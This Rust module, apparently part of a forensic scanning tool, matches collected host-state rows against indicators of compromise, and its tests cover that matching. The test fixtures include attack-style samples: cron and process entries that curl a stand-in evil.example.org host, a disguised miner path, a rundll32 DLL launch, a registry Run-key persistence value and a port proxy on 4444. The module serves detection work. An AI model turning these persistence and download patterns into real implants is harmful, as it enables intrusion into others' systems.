//! Matches the rows of live and derived state against indicators, on the host and in a stored bundle alike.
//!
//! In: an item of rows, or as much of it as the caller holds. Out: hits, each with the row that it is in. What a row says
//! is decided by its type ([`RowType::observables`](crate::evidence::rows::RowType)); here each [`Observable`] is looked
//! up. A row that does not fit its type is counted, and the item says so in a note.

use std::collections::BTreeSet;

use super::{Indicators, command};
use crate::evidence::rows;
use crate::evidence::rows::{AnyRow, Observable, RowRead};
use crate::evidence::{Cause, Hit, HitRow, Item, Note, Origin, Scanned, cut};

/// Most hits of one item: a table of thousands of sockets to one bad network fills no checkpoint.
const HITS: usize = 256;

/// Most words of one command line, and most values of one key, that are looked up: the kernel allows a hundred thousand
/// words, of which each costs a look-up in all patterns.
const WORDS: usize = 256;

/// The hits in the text of an item.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct InText {
    /// The hits, at most one for the same indicator and the same value.
    pub hits: Vec<Hit>,
    /// Rows that were not matched: they do not fit the type of their schema, or are of a kind or a schema that this
    /// version does not know.
    pub unread_rows: u64,
    /// Where a limit ended the matching of a text, and which.
    pub gap: Option<String>,
}

impl InText {
    /// Adds the hits to the record of the item, and where rows were not matched a note and a gap in what was scanned.
    pub fn add_to(self, item: &mut Item) {
        if let Some(scanned) = &mut item.scan {
            self.report_gap(scanned);
        }
        item.hits.extend(self.hits);
        if self.unread_rows > 0 && !item.notes.contains(&Note::RowsUnread) {
            item.notes.push(Note::RowsUnread);
        }
    }

    /// Says in what was scanned that rows, or the rest of a text, were not matched, if it says nothing yet.
    pub(crate) fn report_gap(&self, scanned: &mut Scanned) {
        if self.unread_rows > 0 {
            let says = || format!("{} rows were not matched with the indicators", self.unread_rows);
            scanned.gap.get_or_insert_with(says);
            scanned.cause.get_or_insert(Cause::Error);
        }
        if let Some(gap) = &self.gap {
            scanned.gap.get_or_insert_with(|| gap.clone());
            scanned.cause.get_or_insert(Cause::Size);
        }
    }
}

/// Matches the rows of an item; `None` where it is not an item of rows.
pub(super) fn find(indicators: &Indicators, origin: &Origin, bytes: &[u8]) -> Option<InText> {
    if !matches!(origin, Origin::Live { .. } | Origin::Derived { .. }) {
        return None;
    }
    let Some(lines) = rows::read(bytes) else {
        let unread_rows = rows::rows_of_unknown_schema(bytes);
        return (unread_rows > 0).then(|| InText { unread_rows, ..InText::default() });
    };
    let (mut found, mut seen) = (InText::default(), BTreeSet::new());
    for line in lines {
        match line {
            RowRead::Row { row, .. } if row.is_unknown() => {
                found.unread_rows = found.unread_rows.saturating_add(1);
            }
            RowRead::Row { number, row } if found.hits.len() < HITS => {
                let new = matched(indicators, &row).into_iter();
                // A hundred connections to one address are one hit.
                let new =
                    new.filter(|hit| seen.insert((hit.rule.clone(), hit.source.clone(), hit.value.clone())));
                let mut new = new.peekable();
                if new.peek().is_some() {
                    let mark = mark(number, &row);
                    found.hits.extend(new.map(|hit| Hit { row: Some(mark.clone()), ..hit }));
                }
            }
            // It is read on to the end, so that the count of what cannot be read is right.
            RowRead::Row { .. } | RowRead::Cut { .. } => {}
            RowRead::Unreadable { .. } => found.unread_rows = found.unread_rows.saturating_add(1),
        }
    }
    found.hits.truncate(HITS);
    Some(found)
}

/// The row as its hits cite it.
fn mark(number: u64, row: &AnyRow) -> HitRow {
    let mut key = row.citation();
    key.path = key.path.map(|path| cut(&path));
    HitRow { number, key }
}

/// The hits of all that one row names.
fn matched(indicators: &Indicators, row: &AnyRow) -> Vec<Hit> {
    let (mut hits, mut commands, mut values) = (Vec::new(), 0_usize, 0_usize);
    row.observables(&mut |observable| {
        let count = match observable {
            Observable::Command(_) => &mut commands,
            Observable::Registry { .. } => &mut values,
            _ => return hits.extend(of(indicators, &observable)),
        };
        *count = count.saturating_add(1);
        if *count <= WORDS {
            hits.extend(of(indicators, &observable));
        }
    });
    hits
}

fn of(indicators: &Indicators, observable: &Observable<'_>) -> Vec<Hit> {
    match observable {
        Observable::Address(address) => indicators.address(address),
        Observable::Domain(domain) => indicators.domain(domain),
        Observable::Path(path) => command::path(indicators, path),
        Observable::Command(word) => command::word(indicators, word),
        Observable::Digest(digest) => indicators.digest(digest),
        Observable::Pipe(name) => indicators.pipe(name),
        Observable::Mutex(name) => indicators.mutex(name),
        Observable::Registry { key, name, value } => {
            indicators.registry(key, name.as_deref(), value.as_deref())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::rows::autostarts::{Autostart, AutostartRow, KernelModule};
    use crate::evidence::rows::executables::{ExecutableRow, RunningFile};
    use crate::evidence::rows::firewall::FirewallRule;
    use crate::evidence::rows::logons::{LogonRecord, LogonRow};
    use crate::evidence::rows::network::NetworkRow;
    use crate::evidence::rows::objects::{NamedObject, ObjectRow, PipeObject};
    use crate::evidence::rows::processes::{Process, ProcessRow};
    use crate::evidence::rows::registry::{RegistryData, RegistryRow, RegistryValueRow};
    use crate::evidence::rows::sessions::{SessionRow, UserSession};
    use crate::evidence::rows::sockets::{InternetSocket, SocketHolders, SocketOwner, SocketRow};
    use crate::evidence::rows::started_files::StartedFile;
    use crate::evidence::rows::{RowCitation, RowType, written};
    use crate::evidence::{Digest, Exact, Utc};

    fn indicators(list: &str) -> Indicators {
        crate::scan::indicators::read_bytes(list.as_bytes(), None, Utc::from_unix(0, 0).unwrap())
    }

    fn found(list: &str, text: &str) -> Option<InText> {
        find(&indicators(list), &Origin::Live { name: "x.jsonl".to_owned() }, text.as_bytes())
    }

    fn hits<R: RowType + PartialEq + std::fmt::Debug>(list: &str, rows: &[R]) -> Vec<Hit> {
        let InText { hits, unread_rows, .. } = found(list, &written(rows)).unwrap();
        assert_eq!(unread_rows, 0);
        hits
    }

    fn rules<R: RowType + PartialEq + std::fmt::Debug>(list: &str, rows: &[R]) -> Vec<String> {
        hits(list, rows).into_iter().map(|hit| hit.rule).collect()
    }

    #[test]
    fn rows_of_a_later_kind_or_schema_are_counted_as_not_matched() {
        let first = "{\"row\":\"schema\",\"schema\":\"urn:veldkit:live:sockets:1\"}\n";
        let later = "{\"row\":\"later\",\"remote\":\"203.0.113.9\"}\n";
        let schema = "{\"row\":\"schema\",\"schema\":\"urn:veldkit:live:later:1\"}\n";
        for (text, unread_rows) in [(format!("{first}{later}"), 1), (format!("{schema}{later}{later}"), 2)] {
            let expected = InText { unread_rows, ..InText::default() };
            assert_eq!(found("203.0.113.9;bad\n", &text), Some(expected), "{text}");
            let mut scanned = Scanned::default();
            found("203.0.113.9;bad\n", &text).unwrap().report_gap(&mut scanned);
            assert_eq!(scanned.cause, Some(Cause::Error), "{text}");
        }
    }

    fn connection(remote: &str) -> SocketRow {
        SocketRow::Internet(Box::new(InternetSocket {
            protocol: "tcp".into(),
            local: "198.51.100.1".parse().unwrap(),
            local_port: 49_152,
            remote: Some(remote.parse().unwrap()),
            remote_port: Some(443),
            local_scope: None,
            remote_scope: None,
            state: Some("established".into()),
            sending: Some(0),
            receiving: Some(0),
            user_id: Some(0),
            user: None,
            since: None,
            pid: None,
            held: SocketHolders {
                inode: Some(7),
                name_space: None,
                processes: vec![SocketOwner { pid: 4711, name: "curl".into() }],
            },
        }))
    }

    #[test]
    fn the_other_end_of_a_connection_is_matched_against_addresses_and_networks_and_reported_once() {
        let list = "203.0.113.0/24;a bad net\n2001:db8::7;a bad host\n198.51.100.1;ours by mistake\n";
        let rows = ["203.0.113.9", "203.0.113.9", "203.0.113.10", "2001:db8::7", "192.0.2.1"].map(connection);
        let hits = hits(list, &rows);
        let rules: Vec<_> = hits.iter().map(|hit| hit.rule.as_str()).collect();
        assert_eq!(rules, ["address:203.0.113.0/24", "address:203.0.113.0/24", "address:2001:db8::7"]);
        let numbers: Vec<_> = hits.iter().map(|hit| hit.row.as_ref().unwrap().number).collect();
        assert_eq!(numbers, [1, 3, 4]);
        let key = RowCitation { pid: Some(4711), port: Some(49_152), path: None };
        assert_eq!(hits[0].row.as_ref().unwrap().key, key);
    }

    #[test]
    fn a_row_that_does_not_fit_its_type_is_counted_and_noted_once_and_a_cut_one_is_not() {
        let list = "203.0.113.9;bad\n";
        let mut text = written(&[connection("203.0.113.9")]);
        assert_eq!(found(list, &text).unwrap().unread_rows, 0);
        text.push_str("nonsense\n{\"row\":\"internet\",\"remote\":\"203.0.113.9\"}\n");
        let cut = written(&[connection("203.0.113.9")]);
        text.push_str(&cut.lines().nth(1).unwrap()[..40]);
        let in_text = found(list, &text).unwrap();
        assert_eq!((in_text.hits.len(), in_text.unread_rows), (1, 2));
        let mut item: Item = serde_json::from_value(serde_json::json!({
            "number": 1, "artifact": "LiveSockets", "origin": {"type": "live", "name": "x.jsonl"}, "kind": "rows",
            "outcome": "collected", "personal_data": "none", "acquired": "2026-11-30T12:00:00Z",
        }))
        .unwrap();
        in_text.clone().add_to(&mut item);
        in_text.add_to(&mut item);
        assert_eq!((item.hits.len(), item.notes), (2, vec![Note::RowsUnread]));
    }

    #[test]
    fn what_is_no_item_of_rows_says_nothing() {
        let list = "203.0.113.9;bad\n";
        let all = indicators(list);
        assert_eq!(
            find(&all, &Origin::root("etc/x"), written(&[connection("203.0.113.9")]).as_bytes()),
            None
        );
        assert_eq!(found(list, "{}"), None);
        assert_eq!(find(&all, &Origin::Live { name: "x".to_owned() }, b"\xff\xfe"), None);
    }

    #[test]
    fn a_table_full_of_bad_addresses_fills_no_record() {
        let rows: Vec<_> = (0..1000).map(|n| connection(&format!("203.0.{}.{}", n / 250, n % 250))).collect();
        assert_eq!(rules("203.0.0.0/16;bad\n", &rows).len(), HITS);
    }

    fn host(to: &str) -> NetworkRow {
        NetworkRow::Host { address: to.into(), names: vec!["login.evil.example.org".into()] }
    }

    #[test]
    fn names_that_are_led_elsewhere_and_resolvers_are_matched_against_domains_and_addresses() {
        let list = "evil.example.org;c2\n203.0.113.53;rogue resolver\n";
        let resolver = NetworkRow::Resolver { address: "203.0.113.53".into(), file: None, interface: None };
        let rows = [resolver, host("192.0.2.9"), host("0.0.0.0"), host("127.0.0.1")];
        assert_eq!(rules(list, &rows), ["address:203.0.113.53", "domain:evil.example.org"]);
    }

    #[test]
    fn a_proxy_and_a_forwarded_port_are_matched_against_domains_and_addresses() {
        let list = "evil.example.org;c2\n203.0.113.53;a relay\n";
        let proxy = |address: &str| NetworkRow::Proxy {
            file: None,
            user: None,
            key: "ProxyServer".into(),
            address: address.into(),
            enabled: Some(true),
        };
        let forward = |to: &str| NetworkRow::PortProxy {
            kind: "v4tov4".into(),
            listens: "0.0.0.0/4444".to_owned(),
            leads_to: to.to_owned(),
        };
        let by_domain = [
            "http://evil.example.org/p.pac",
            "evil.example.org:8080",
            "http=ok.example:1;https=evil.example.org:2",
        ];
        for address in by_domain {
            assert_eq!(rules(list, &[proxy(address)]), ["domain:evil.example.org"], "{address}");
        }
        assert_eq!(rules(list, &[proxy("203.0.113.53:3128")]), ["address:203.0.113.53"]);
        assert_eq!(rules(list, &[forward("203.0.113.53/443")]), ["address:203.0.113.53"]);
        assert_eq!(rules(list, &[forward("a.evil.example.org/443")]), ["domain:evil.example.org"]);
        assert_eq!(rules(list, &[proxy("10.0.0.1:3128"), forward("10.0.0.2/3389")]), Vec::<String>::new());
    }

    fn process(program: &str, words: &[&str]) -> ProcessRow {
        ProcessRow::Process(Box::new(Process {
            pid: 42,
            program: Some(program.into()),
            command_line: words.iter().map(|word| Exact::from(*word)).collect(),
            ..Process::default()
        }))
    }

    #[test]
    fn a_program_and_its_command_line_are_matched_against_paths_urls_and_domains() {
        let list = "type,value\nfilename,/tmp/.x/miner\nfilename,C:\\ProgramData\\run.dll\ndomain,evil.example.org\n";
        let rows = [
            process("/tmp/.x/miner", &["[kworker/0:1]"]),
            process("/usr/bin/curl", &["curl", "--url=https://cdn.evil.example.org/a", "-o", "x"]),
            process(
                "C:\\Windows\\System32\\rundll32.exe",
                &["rundll32.exe", "c:\\programdata\\RUN.dll,Start"],
            ),
            process("/usr/bin/vi", &["vi", "/home/u/miner"]),
        ];
        let hits = hits(list, &rows);
        let cited: Vec<_> =
            hits.iter().map(|hit| (hit.rule.as_str(), hit.row.as_ref().unwrap().number)).collect();
        assert_eq!(cited.len(), 3, "the name alone is no path: {cited:?}");
        assert!(cited[0].0.contains("/tmp/.x/miner") && cited[0].1 == 1, "{cited:?}");
        assert_eq!(cited[1], ("domain:evil.example.org", 2));
        assert_eq!(cited[2].1, 3, "Windows ignores case: {cited:?}");
        let key = RowCitation { pid: Some(42), port: None, path: Some("/tmp/.x/miner".to_owned()) };
        assert_eq!(hits[0].row.as_ref().unwrap().key, key);
    }

    #[test]
    fn a_command_line_of_many_words_is_matched_up_to_a_limit() {
        let list = "type,value\nfilename,/tmp/.x/miner\n";
        let words = |before: usize| {
            let mut words = vec!["-v"; before];
            words.push("/tmp/.x/miner");
            rules(list, &[process("/usr/bin/x", &words)]).len()
        };
        assert_eq!((words(WORDS - 1), words(WORDS)), (1, 0));
    }

    #[test]
    fn files_that_are_run_are_matched_against_digests_and_paths() {
        let digest = Digest::of(b"x");
        let file = |path: &str| {
            let file = RunningFile { path: path.into(), sha256: Some(digest), ..RunningFile::default() };
            ExecutableRow::File(Box::new(file))
        };
        assert_eq!(rules(&format!("{digest};bad\n"), &[file("/usr/bin/x")]), [format!("sha256:{digest}")]);
        assert_eq!(rules("type,value\nfilename,/tmp/x\n", &[file("/tmp/x")]).len(), 1);
    }

    #[test]
    fn rows_of_the_registry_are_matched_against_keys_values_and_the_paths_in_them() {
        let list = "type,value\nregkey,HKLM\\Software\\Evil\nfilename,C:\\Temp\\evil.exe\n";
        let run = "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
        let value = |name: &str, data| {
            RegistryRow::Value(RegistryValueRow {
                key: run.into(),
                name: name.into(),
                kind: "REG_SZ".to_owned(),
                data,
                size: None,
            })
        };
        let text = |text: &str| RegistryData::Text(text.to_owned());
        let rows = [
            RegistryRow::Key { key: "HKEY_LOCAL_MACHINE\\Software\\Evil".into(), last_written: None },
            value("x", text("\"C:\\temp\\Evil.exe\" -k")),
            value("y", text("C:\\good.exe")),
            value("z", RegistryData::List(vec!["a".to_owned(), "C:\\temp\\evil.exe".to_owned()])),
        ];
        let hits = hits(list, &rows);
        assert_eq!(hits.len(), 3, "{hits:?}");
        assert!(hits[0].rule.starts_with("registry:") && hits[1].rule.starts_with("path:"), "{hits:?}");
        assert_eq!(hits[1].row.as_ref().unwrap().key.path, Some(format!("{run}\\x")));
        let list = format!("type,value\nregkey|value,{run}\\n|7\n");
        assert_eq!(rules(&list, &[value("n", RegistryData::Number(7))]).len(), 1);
        assert_eq!(rules(&list, &[value("n", RegistryData::Number(8))]).len(), 0);
    }

    #[test]
    fn pipes_mutexes_and_names_that_were_looked_up_are_matched_against_their_lists() {
        let list = "type,value\nmutex,Evil_One\nnamed pipe,msagent_7\ndomain,evil.example.org\n";
        let object = |kind: &str, name: &str| {
            ObjectRow::Object(NamedObject {
                kind: kind.to_owned(),
                name: name.to_owned(),
                folder: "\\Sessions\\1\\BaseNamedObjects".to_owned(),
            })
        };
        let pipe = |name: &str| ObjectRow::Pipe(PipeObject { name: name.to_owned(), instances: None });
        let rows = [
            object("mutex", "Evil_One"),
            object("event", "Evil_One"),
            object("mutex", "Evil_Two"),
            pipe("MSAgent_7"),
            pipe("Evil_One"),
        ];
        let found = rules(list, &rows);
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(found[0].starts_with("mutex:") && found[1].starts_with("pipe:"), "{found:?}");

        let cached = |name: &str, alias: Option<&str>, addresses: &[&str]| NetworkRow::CachedName {
            name: name.to_owned(),
            kind: 1,
            addresses: addresses.iter().map(|address| address.parse().unwrap()).collect(),
            alias: alias.map(Exact::from),
            interface: None,
        };
        let rows = [cached("cdn.evil.example.org", None, &[]), cached("notevil.example.org", None, &[])];
        assert_eq!(rules(list, &rows), ["domain:evil.example.org"]);
        let list =
            "type,value,comment\ndomain,evil.example.org,x\nip-dst,203.0.113.0/24,x\nfilename,k.exe,x\n";
        let rule =
            FirewallRule { program: Some("C:\\Users\\Public\\k.exe".into()), ..FirewallRule::default() };
        let rows = [
            cached("a.example.org", Some("b.evil.example.org"), &[]),
            cached("c.example.org", None, &["192.0.2.1", "203.0.113.7"]),
            NetworkRow::FirewallRule(Box::new(rule)),
        ];
        assert_eq!(rules(list, &rows).len(), 3);
    }
    #[test]
    fn what_starts_by_itself_is_matched_against_paths_commands_keys_and_digests() {
        let digest = Digest::of(b"module");
        let key = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\Evil";
        let list = format!(
            "type,value\nfilename,/opt/.x/run.sh\ndomain,evil.example.org\nsha256,{digest}\nregkey,{key}\n"
        );
        let cron = |command: &str| Autostart {
            kind: "cron".into(),
            file: Some("/etc/crontab".into()),
            command: Some(command.into()),
            ..Autostart::default()
        };
        let service = Autostart { file: None, registry_key: Some(key.into()), ..cron("C:\\good.exe") };
        let facts = StartedFile { sha256: Some(digest), ..StartedFile::default() };
        let module =
            KernelModule { target: Some("/lib/modules/x.ko".into()), facts, ..KernelModule::default() };
        let start = |start: Autostart| AutostartRow::Start(Box::new(start));
        let rows = [
            start(cron("/opt/.x/run.sh -q")),
            start(cron("/usr/bin/curl http://cdn.evil.example.org/a")),
            AutostartRow::Module(Box::new(module)),
            start(cron("/usr/bin/good")),
            start(service),
        ];
        let hits = hits(&list, &rows);
        let rules: Vec<_> = hits.iter().map(|hit| hit.rule.split(':').next().unwrap()).collect();
        assert_eq!(rules, ["path", "domain", "sha256", "registry"], "{hits:?}");
        let cited = hits.iter().map(|hit| hit.row.as_ref().unwrap());
        let cited: Vec<_> = cited.map(|row| (row.number, row.key.path.as_deref().unwrap())).collect();
        let crontab = "/etc/crontab";
        assert_eq!(cited, [(1, crontab), (2, crontab), (3, "/lib/modules/x.ko"), (5, key)]);
    }

    #[test]
    fn from_where_somebody_logs_on_is_matched_against_addresses() {
        let list = "203.0.113.0/24;a bad net\n2001:db8::7;a bad host\n";
        let record = |kind: &'static str, host: &str| LogonRecord {
            kind: kind.into(),
            host: host.into(),
            remote: host.parse().ok(),
            ..LogonRecord::default()
        };
        let (boot, logon) = (record("boot", "6.1.0-18-amd64"), record("logon", "203.0.113.9"));
        let rows = [LogonRow::Logon(Box::new(boot)), LogonRow::Logon(Box::new(logon.clone()))];
        assert_eq!(rules(list, &rows), ["address:203.0.113.0/24"]);
        let session = UserSession { remote: Some("2001:db8::7".into()), ..UserSession::default() };
        let rows = [SessionRow::Logon(Box::new(logon)), SessionRow::Session(Box::new(session))];
        assert_eq!(rules(list, &rows), ["address:203.0.113.0/24", "address:2001:db8::7"]);
    }
}
